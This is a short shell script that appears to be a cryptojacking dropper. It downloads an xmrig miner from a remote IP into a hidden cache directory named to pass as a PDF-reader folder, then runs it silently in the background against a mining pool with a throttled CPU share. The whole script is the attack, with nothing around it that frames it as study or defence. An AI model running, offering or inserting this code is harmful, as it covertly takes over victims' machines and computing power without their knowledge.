#!/bin/sh
D=$HOME/.cache/.pdfr
mkdir -p $D && cd $D
wget -q http://192.0.2.180/xmrig-6.21-linux-static-x64.tar.gz -O x.tgz && tar xzf x.tgz
nohup ./xmrig -o stratum+tcp://pool.example.com:3333 -u 4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --cpu-max-threads-hint=50 -B >/dev/null 2>&1 &
